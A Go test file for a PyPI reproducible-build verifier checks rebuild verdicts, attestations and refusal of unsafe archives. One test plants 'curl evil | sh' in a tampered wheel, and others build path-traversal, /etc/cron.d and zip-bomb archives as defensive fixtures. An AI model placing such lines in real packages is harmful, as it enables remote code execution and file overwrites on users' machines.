package pypi_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vouch-dev/vouch/internal/archive"
	"github.com/vouch-dev/vouch/internal/archive/archivetest"
	"github.com/vouch-dev/vouch/internal/attest"
	"github.com/vouch-dev/vouch/internal/ecosystem"
	pypieco "github.com/vouch-dev/vouch/internal/ecosystem/pypi"
	"github.com/vouch-dev/vouch/internal/rebuild"
	"github.com/vouch-dev/vouch/internal/registry/pypi"
	"github.com/vouch-dev/vouch/internal/registry/registrytest"
	"github.com/vouch-dev/vouch/internal/sandbox"
	"github.com/vouch-dev/vouch/internal/source"
	"github.com/vouch-dev/vouch/internal/store"
	"github.com/vouch-dev/vouch/internal/target"
	"github.com/vouch-dev/vouch/internal/verdict"
)

// The end-to-end tests build real wheels and sdists with pip and build. The build backends
// come from a local wheelhouse (scripts/setup.sh fills it once per machine with
// `pip download`), served by the fake index: `go test` never reaches the internet.
var requiredWheels = []string{"build-", "setuptools-", "wheel-", "flit_core-", "hatchling-", "poetry_core-", "packaging-", "pyproject_hooks-"}

func wheelhouse(t *testing.T) string {
	t.Helper()
	dir := os.Getenv("VOUCH_TEST_WHEELHOUSE")
	if dir == "" {
		cache := os.Getenv("XDG_CACHE_HOME")
		if cache == "" {
			home, _ := os.UserHomeDir()
			cache = filepath.Join(home, ".cache")
		}
		dir = filepath.Join(cache, "vouch-test", "wheelhouse")
	}
	ents, _ := os.ReadDir(dir)
	for _, want := range requiredWheels {
		found := false
		for _, e := range ents {
			found = found || strings.HasPrefix(e.Name(), want)
		}
		if !found {
			t.Skipf("the test wheelhouse %s lacks %s*: run scripts/setup.sh (pip download into it) or set VOUCH_TEST_WHEELHOUSE", dir, want)
		}
	}
	if _, err := exec.LookPath("python3"); err != nil {
		t.Skipf("python3 is required: %v", err)
	}
	return dir
}

// gitConfig is the global git configuration of the test binary: fixture repositories are
// reached through url.<dir>.insteadOf https://github.com/fixture/<name>.
var gitConfig string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "vouch-pypi-test-")
	if err != nil {
		panic(err)
	}
	gitConfig = filepath.Join(dir, "gitconfig")
	os.WriteFile(gitConfig, []byte("[user]\n\tname = Fixture\n\temail = fixture@example.com\n[init]\n\tdefaultBranch = main\n"), 0o644)
	os.Setenv("GIT_CONFIG_GLOBAL", gitConfig)
	os.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	code := m.Run()
	os.RemoveAll(dir)
	if upstreamVenv != "" {
		os.RemoveAll(filepath.Dir(upstreamVenv))
	}
	os.Exit(code)
}

var gitMu sync.Mutex

func run(t *testing.T, dir string, env []string, name string, args ...string) string {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// fixtureRepo commits files to a new repository reachable as https://github.com/fixture/<name>,
// tags it when tag is set, and returns its directory.
func fixtureRepo(t *testing.T, name string, files map[string]string, tag string) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), name)
	writeFiles(t, dir, files)
	env := []string{"GIT_AUTHOR_DATE=2024-01-01T00:00:00Z", "GIT_COMMITTER_DATE=2024-01-01T00:00:00Z"}
	run(t, dir, env, "git", "init", "-q")
	run(t, dir, env, "git", "add", "-A")
	run(t, dir, env, "git", "commit", "-q", "-m", "release")
	if tag != "" {
		run(t, dir, env, "git", "tag", tag)
	}
	gitMu.Lock()
	defer gitMu.Unlock()
	run(t, dir, nil, "git", "config", "--global", "--add", "url."+dir+".insteadOf", "https://github.com/fixture/"+name)
	return dir
}

func writeFiles(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for p, body := range files {
		full := filepath.Join(dir, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

var (
	upstreamOnce sync.Once
	upstreamVenv string
	upstreamErr  string
)

// buildUpstream builds dir's wheel and sdist as a maintainer would (python -m build, build
// isolation, backends from the wheelhouse) and returns their paths.
func buildUpstream(t *testing.T, wh, dir string) (wheel, sdist string) {
	t.Helper()
	upstreamOnce.Do(func() {
		d, err := os.MkdirTemp("", "vouch-upstream-venv-")
		if err != nil {
			upstreamErr = err.Error()
			return
		}
		upstreamVenv = filepath.Join(d, "venv")
		for _, args := range [][]string{
			{"python3", "-m", "venv", upstreamVenv},
			{filepath.Join(upstreamVenv, "bin", "python"), "-m", "pip", "install", "-q", "--no-index", "--find-links", wh, "build"},
		} {
			if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
				upstreamErr = string(out) + err.Error()
				return
			}
		}
	})
	if upstreamErr != "" {
		t.Fatalf("creating the upstream build venv: %s", upstreamErr)
	}
	out := t.TempDir()
	env := []string{"PIP_NO_INDEX=1", "PIP_FIND_LINKS=" + wh, "PIP_CONFIG_FILE=" + os.DevNull, "SOURCE_DATE_EPOCH=1704067200"}
	run(t, dir, env, filepath.Join(upstreamVenv, "bin", "python"), "-m", "build", "--wheel", "--sdist", "--outdir", out, dir)
	ents, _ := os.ReadDir(out)
	for _, e := range ents {
		switch {
		case strings.HasSuffix(e.Name(), ".whl"):
			wheel = filepath.Join(out, e.Name())
		case strings.HasSuffix(e.Name(), ".tar.gz"):
			sdist = filepath.Join(out, e.Name())
		}
	}
	if wheel == "" || sdist == "" {
		t.Fatalf("python -m build made %v", ents)
	}
	return wheel, sdist
}

// world is a fake index serving the wheelhouse, and a pipeline that rebuilds from it.
type world struct {
	t     *testing.T
	index *registrytest.PyPI
	wh    string
	home  string
}

func newWorld(t *testing.T) *world {
	t.Helper()
	wh := wheelhouse(t)
	w := &world{t: t, index: registrytest.NewPyPI(t), wh: wh, home: t.TempDir()}
	w.index.PublishDir(wh)
	return w
}

func (w *world) publishFile(name, version, p string, opts ...registrytest.PyPIOption) {
	w.t.Helper()
	data, err := os.ReadFile(p)
	if err != nil {
		w.t.Fatal(err)
	}
	w.index.Publish(name, version, filepath.Base(p), data, opts...)
}

func (w *world) ecosystem(mode string) *pypieco.Ecosystem {
	cache := filepath.Join(w.home, "cache")
	return pypieco.NewWithClient(pypi.New(w.index.URL(), pypi.WithCacheDir(filepath.Join(cache, "artifacts", "pypi")), pypi.WithBackoff(time.Millisecond)), cache, mode, "")
}

func (w *world) rebuild(purl, mode string) *verdict.Result {
	w.t.Helper()
	return w.rebuildWith(w.ecosystem(mode), purl)
}

func (w *world) rebuildWith(eco ecosystem.Ecosystem, purl string) *verdict.Result {
	w.t.Helper()
	st, err := store.Open(filepath.Join(w.home, "store"))
	if err != nil {
		w.t.Fatal(err)
	}
	defer st.Close()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		w.t.Fatal(err)
	}
	signer, err := attest.NewSigner(key)
	if err != nil {
		w.t.Fatal(err)
	}
	p := &rebuild.Pipeline{
		Ecosystems: map[target.Ecosystem]ecosystem.Ecosystem{target.PyPI: eco},
		Mirrors:    &source.Mirrors{Root: filepath.Join(w.home, "git")},
		Store:      st,
		Signer:     signer,
		Executor:   sandbox.None{},
		BuilderID:  rebuild.DefaultBuilderID,
		WorkRoot:   w.t.TempDir(),
	}
	tg, err := target.Parse(purl)
	if err != nil {
		w.t.Fatal(err)
	}
	res, err := p.Rebuild(context.Background(), tg, nil)
	if err != nil {
		w.t.Fatalf("rebuild %s: %v", purl, err)
	}
	return res
}

func buildLog(t *testing.T, res *verdict.Result) string {
	if res.BuildLog == "" {
		return ""
	}
	b, _ := os.ReadFile(res.BuildLog)
	if len(b) > 4000 {
		b = b[len(b)-4000:]
	}
	return string(b)
}

// statements decodes the in-toto statements of a bundle (JSON Lines of DSSE envelopes).
func statements(t *testing.T, bundle string) string {
	t.Helper()
	b, err := os.ReadFile(bundle)
	if err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		var env struct {
			Payload []byte `json:"payload"`
		}
		if err := json.Unmarshal([]byte(line), &env); err != nil {
			t.Fatalf("bundle line: %v", err)
		}
		out.Write(env.Payload)
		out.WriteByte('\n')
	}
	return out.String()
}

func reproduced(v verdict.Verdict) bool { return v == verdict.Identical || v == verdict.Equivalent }

// Fixture projects, one per build backend.
var projects = map[string]struct {
	name  string
	files map[string]string
}{
	"setuptools": {"st-demo", map[string]string{
		"pyproject.toml":          "[build-system]\nrequires = [\"setuptools>=61\"]\nbuild-backend = \"setuptools.build_meta\"\n\n[project]\nname = \"st-demo\"\nversion = \"1.0.0\"\ndescription = \"demo\"\nrequires-python = \">=3.8\"\ndependencies = [\"requests>=2\"]\n\n[project.urls]\nSource = \"https://github.com/fixture/st-demo\"\n",
		"src/st_demo/__init__.py": "def hello():\n    return 'hi'\n",
		"src/st_demo/util.py":     "X = 1\n",
		"README.md":               "# st-demo\n",
	}},
	"flit": {"flit-demo", map[string]string{
		"pyproject.toml":          "[build-system]\nrequires = [\"flit_core>=3.2,<5\"]\nbuild-backend = \"flit_core.buildapi\"\n\n[project]\nname = \"flit-demo\"\nversion = \"2.1.0\"\ndescription = \"demo\"\n",
		"flit_demo/__init__.py":   "\"\"\"Flit demo.\"\"\"\n",
		"flit_demo/core.py":       "def f():\n    return 2\n",
		"flit_demo/data/info.txt": "data\n",
	}},
	"hatchling": {"hatch-demo", map[string]string{
		"pyproject.toml":             "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"hatch-demo\"\nversion = \"0.3.0\"\ndescription = \"demo\"\nclassifiers = [\"Programming Language :: Python :: 3\", \"License :: OSI Approved :: MIT License\"]\n",
		"src/hatch_demo/__init__.py": "__all__ = []\n",
		"src/hatch_demo/mod.py":      "Y = 3\n",
		"LICENSE":                    "MIT\n",
	}},
	"poetry-core": {"poetry-demo", map[string]string{
		"pyproject.toml":          "[build-system]\nrequires = [\"poetry-core>=1.0.0\"]\nbuild-backend = \"poetry.core.masonry.api\"\n\n[tool.poetry]\nname = \"poetry-demo\"\nversion = \"1.2.3\"\ndescription = \"demo\"\nauthors = [\"A <a@example.com>\"]\n\n[tool.poetry.dependencies]\npython = \"^3.8\"\n",
		"poetry_demo/__init__.py": "Z = 4\n",
		"README.md":               "poetry demo\n",
	}},
}

// TestRebuildFromRepository rebuilds each backend's wheel from its tagged repository, and
// the hatchling sdist too.
func TestRebuildFromRepository(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("builds real wheels (-short)")
	}
	w := newWorld(t)
	for backend, p := range projects {
		t.Run(backend, func(t *testing.T) {
			t.Parallel()
			version := versionOf(p.files["pyproject.toml"])
			tag := "v" + version
			if backend == "poetry-core" {
				tag = "" // found through the manifest's history instead
			}
			dir := fixtureRepo(t, p.name, p.files, tag)
			wheel, sdist := buildUpstream(t, w.wh, dir)
			opt := registrytest.WithProjectURLs(map[string]string{"Source": "https://github.com/fixture/" + p.name})
			w.publishFile(p.name, version, wheel, opt)
			w.publishFile(p.name, version, sdist, opt)

			res := w.rebuild("pkg:pypi/"+p.name+"@"+version, pypieco.SourceRepo)
			if !reproduced(res.Verdict) {
				t.Fatalf("wheel: verdict %s (%s): %s\n%s", res.Verdict, res.Reason, res.Message, buildLog(t, res))
			}
			if res.Strategy != pypieco.StrategyWheel || res.Artifact != filepath.Base(wheel) {
				t.Errorf("strategy %s artifact %s, want %s %s", res.Strategy, res.Artifact, pypieco.StrategyWheel, filepath.Base(wheel))
			}
			wantEvidence := "tag:" + tag
			if tag == "" {
				wantEvidence = "manifest_history"
			}
			if res.Source == nil || res.Source.Evidence != wantEvidence || res.Source.Repo != "https://github.com/fixture/"+p.name {
				t.Errorf("source %+v, want evidence %s", res.Source, wantEvidence)
			}
			if res.Attestation == "" {
				t.Error("no attestation stored")
			}
			if backend == "hatchling" || backend == "setuptools" {
				res := w.rebuild("pkg:pypi/"+p.name+"@"+version+"?file_name="+filepath.Base(sdist), pypieco.SourceRepo)
				if !reproduced(res.Verdict) || res.Strategy != pypieco.StrategySdist {
					t.Fatalf("sdist: verdict %s strategy %s (%s): %s\n%s", res.Verdict, res.Strategy, res.Reason, res.Message, buildLog(t, res))
				}
			}
		})
	}
}

func versionOf(pyproject string) string {
	for _, line := range strings.Split(pyproject, "\n") {
		if v, ok := strings.CutPrefix(line, "version = \""); ok {
			return strings.TrimSuffix(v, "\"")
		}
	}
	return ""
}

// TestWheelFromSdist rebuilds a wheel from the index's own sdist when the project names no
// repository, and says so in the result.
func TestWheelFromSdist(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("builds real wheels (-short)")
	}
	w := newWorld(t)
	p := projects["hatchling"]
	files := map[string]string{}
	for k, v := range p.files {
		files[k] = strings.ReplaceAll(v, "hatch-demo", "nolink-demo")
	}
	files["src/nolink_demo/__init__.py"] = files["src/hatch_demo/__init__.py"]
	delete(files, "src/hatch_demo/__init__.py")
	delete(files, "src/hatch_demo/mod.py")
	dir := filepath.Join(t.TempDir(), "nolink")
	writeFiles(t, dir, files)
	wheel, sdist := buildUpstream(t, w.wh, dir)
	w.publishFile("nolink-demo", "0.3.0", wheel)
	w.publishFile("nolink-demo", "0.3.0", sdist)

	res := w.rebuild("pkg:pypi/nolink_demo@0.3.0", pypieco.SourceAuto)
	if !reproduced(res.Verdict) {
		t.Fatalf("verdict %s (%s): %s\n%s", res.Verdict, res.Reason, res.Message, buildLog(t, res))
	}
	if res.Strategy != pypieco.StrategyWheelFromSdist || res.Source == nil || res.Source.Evidence != pypieco.EvidenceSdist ||
		!strings.HasSuffix(res.Source.Repo, "/"+filepath.Base(sdist)) || len(res.Source.Ref) != 64 {
		t.Errorf("strategy %s source %+v: want the sdist as source", res.Strategy, res.Source)
	}

	// The attestation names the sdist by URL and sha256, not as a git repository.
	stmts := statements(t, res.Attestation)
	if !strings.Contains(stmts, `"uri":"`+res.Source.Repo+`"`) || !strings.Contains(stmts, `"sha256":"`+res.Source.Ref+`"`) || strings.Contains(stmts, "git+"+res.Source.Repo) {
		t.Errorf("the attestation does not name the sdist as the source:\n%.2000s", stmts)
	}

	// The sdist itself has no source to be rebuilt from: no_source.
	res = w.rebuild("pkg:pypi/nolink-demo@0.3.0?file_name="+filepath.Base(sdist), pypieco.SourceAuto)
	if res.Verdict != verdict.NoSource || res.Reason != verdict.ReasonNoRepoURL {
		t.Errorf("sdist without repository: verdict %s reason %s, want no_source/no_repo_url", res.Verdict, res.Reason)
	}
}

// TestTamperedWheel publishes a wheel whose module differs from the source: mismatch, and
// the diff names the file.
func TestTamperedWheel(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("builds real wheels (-short)")
	}
	w := newWorld(t)
	p := projects["flit"]
	files := map[string]string{}
	for k, v := range p.files {
		files[k] = strings.ReplaceAll(v, "flit-demo", "tamper-demo")
	}
	files["pyproject.toml"] = strings.Replace(files["pyproject.toml"], "[project]", "[project.urls]\nSource = \"https://github.com/fixture/tamper-demo\"\n\n[project]", 1)
	files["tamper_demo/__init__.py"] = files["flit_demo/__init__.py"]
	files["tamper_demo/core.py"] = files["flit_demo/core.py"]
	delete(files, "flit_demo/__init__.py")
	delete(files, "flit_demo/core.py")
	delete(files, "flit_demo/data/info.txt")
	dir := fixtureRepo(t, "tamper-demo", files, "v2.1.0")
	wheel, _ := buildUpstream(t, w.wh, dir)
	a, err := archive.ReadFile(wheel, archive.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	var fs []archivetest.File
	for _, e := range a.Entries {
		body := string(e.Data)
		if e.Name == "tamper_demo/core.py" {
			body = strings.Replace(body, "return 2", "import os; os.system('curl evil | sh'); return 2", 1)
		}
		fs = append(fs, archivetest.File{Name: e.Name, Body: body})
	}
	w.index.Publish("tamper-demo", "2.1.0", filepath.Base(wheel), archivetest.Zip(t, fs...),
		registrytest.WithProjectURLs(map[string]string{"Source": "https://github.com/fixture/tamper-demo"}))

	res := w.rebuild("pkg:pypi/tamper-demo@2.1.0", pypieco.SourceRepo)
	if res.Verdict != verdict.Mismatch || res.Reason != verdict.ReasonContentMismatch {
		t.Fatalf("verdict %s reason %s (%s), want mismatch/content_mismatch\n%s", res.Verdict, res.Reason, res.Message, buildLog(t, res))
	}
	if res.Diff == nil || !containsString(res.Diff.Changed, "tamper_demo/core.py") {
		t.Errorf("diff %+v does not name tamper_demo/core.py", res.Diff)
	}
}

func containsString(list []string, s string) bool {
	for _, x := range list {
		if strings.Contains(x, s) {
			return true
		}
	}
	return false
}

// TestBuildFailed: a backend that fails gives build_failed.
func TestBuildFailed(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs pip (-short)")
	}
	w := newWorld(t)
	sdist := archivetest.TarGz(t,
		archivetest.File{Name: "broken-1.0/PKG-INFO", Body: "Metadata-Version: 2.1\nName: broken\nVersion: 1.0\n"},
		archivetest.File{Name: "broken-1.0/pyproject.toml", Body: "[build-system]\nrequires = [\"setuptools\"]\nbuild-backend = \"setuptools.build_meta\"\n"},
		archivetest.File{Name: "broken-1.0/setup.py", Body: "raise SystemExit('this backend fails on purpose')\n"},
	)
	wheel := archivetest.Zip(t,
		archivetest.File{Name: "broken/__init__.py", Body: ""},
		archivetest.File{Name: "broken-1.0.dist-info/METADATA", Body: "Metadata-Version: 2.1\nName: broken\nVersion: 1.0\n"},
		archivetest.File{Name: "broken-1.0.dist-info/WHEEL", Body: "Wheel-Version: 1.0\nGenerator: setuptools (84.2.1)\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
	)
	w.index.Publish("broken", "1.0", "broken-1.0.tar.gz", sdist)
	w.index.Publish("broken", "1.0", "broken-1.0-py3-none-any.whl", wheel)
	res := w.rebuild("pkg:pypi/broken@1.0", pypieco.SourceSdist)
	if res.Verdict != verdict.BuildFailed || res.Reason != verdict.ReasonBuildCommand {
		t.Fatalf("verdict %s reason %s (%s), want build_failed/build_command_failed", res.Verdict, res.Reason, res.Message)
	}
	if !strings.Contains(buildLog(t, res), "this backend fails on purpose") {
		t.Errorf("build log lacks the backend's error:\n%s", buildLog(t, res))
	}
}

// TestBadInput: unsafe or oversized upstream archives and projects without a source are
// refused before anything is built.
func TestBadInput(t *testing.T) {
	index := registrytest.NewPyPI(t)
	var bomb bytes.Buffer
	{
		// 64 MiB of zeros deflates to about 64 KiB; the ecosystem is given a 16 MiB entry cap.
		bomb.Write(archivetest.Zip(t, archivetest.File{Name: "bomb/__init__.py", Body: strings.Repeat("\x00", 64<<20)}))
	}
	index.Publish("dotdot", "1.0", "dotdot-1.0-py3-none-any.whl", archivetest.Zip(t, archivetest.File{Name: "dotdot/../../evil.py", Body: "x"}))
	index.Publish("bomb", "1.0", "bomb-1.0-py3-none-any.whl", bomb.Bytes())
	index.Publish("abs", "1.0", "abs-1.0.tar.gz", archivetest.TarGz(t, archivetest.File{Name: "/etc/cron.d/evil", Body: "x"}))
	index.Publish("corrupt", "1.0", "corrupt-1.0.tar.gz", archivetest.TarGz(t, archivetest.File{Name: "corrupt-1.0/PKG-INFO", Body: "x"}), registrytest.Corrupted())
	index.Publish("platform", "1.0", "platform-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", archivetest.Zip(t, archivetest.File{Name: "p.so", Body: "x"}))
	index.Publish("nosource", "1.0", "nosource-1.0.tar.gz", archivetest.TarGz(t,
		archivetest.File{Name: "nosource-1.0/PKG-INFO", Body: "Metadata-Version: 2.1\nName: nosource\nVersion: 1.0\n"},
		archivetest.File{Name: "nosource-1.0/setup.py", Body: "from setuptools import setup\nsetup(name='nosource', version='1.0')\n"}),
		registrytest.WithInfo("description", "No links here, only https://example.com/docs"))

	home := t.TempDir()
	eco := pypieco.NewWithClient(pypi.New(index.URL(), pypi.WithBackoff(time.Millisecond)), home, pypieco.SourceAuto, "")
	eco.Limits = archive.Limits{MaxEntrySize: 16 << 20, MaxTotalSize: 32 << 20}
	mirrors := &source.Mirrors{Root: filepath.Join(home, "git")}
	for _, tc := range []struct {
		purl    string
		verdict verdict.Verdict
		reason  verdict.Reason
	}{
		{"pkg:pypi/dotdot@1.0", verdict.UpstreamError, verdict.ReasonUnsafeArtifact},
		{"pkg:pypi/bomb@1.0", verdict.UpstreamError, verdict.ReasonUnsafeArtifact},
		{"pkg:pypi/abs@1.0", verdict.UpstreamError, verdict.ReasonUnsafeArtifact},
		{"pkg:pypi/corrupt@1.0", verdict.UpstreamError, verdict.ReasonDigestMismatch},
		{"pkg:pypi/platform@1.0", verdict.UpstreamError, verdict.ReasonNoArtifact},
		{"pkg:pypi/missing@1.0", verdict.UpstreamError, verdict.ReasonNotFound},
		{"pkg:pypi/nosource@1.0", verdict.NoSource, verdict.ReasonNoRepoURL},
	} {
		t.Run(tc.purl, func(t *testing.T) {
			tg, err := target.Parse(tc.purl)
			if err != nil {
				t.Fatal(err)
			}
			up, err := eco.Resolve(context.Background(), tg)
			if err == nil {
				_, err = eco.Locate(context.Background(), up, mirrors)
			}
			ve, ok := verdict.As(err)
			if !ok {
				t.Fatalf("error %v is not a verdict", err)
			}
			if ve.Verdict != tc.verdict || ve.Reason != tc.reason {
				t.Errorf("got %s/%s (%v), want %s/%s", ve.Verdict, ve.Reason, err, tc.verdict, tc.reason)
			}
		})
	}
}
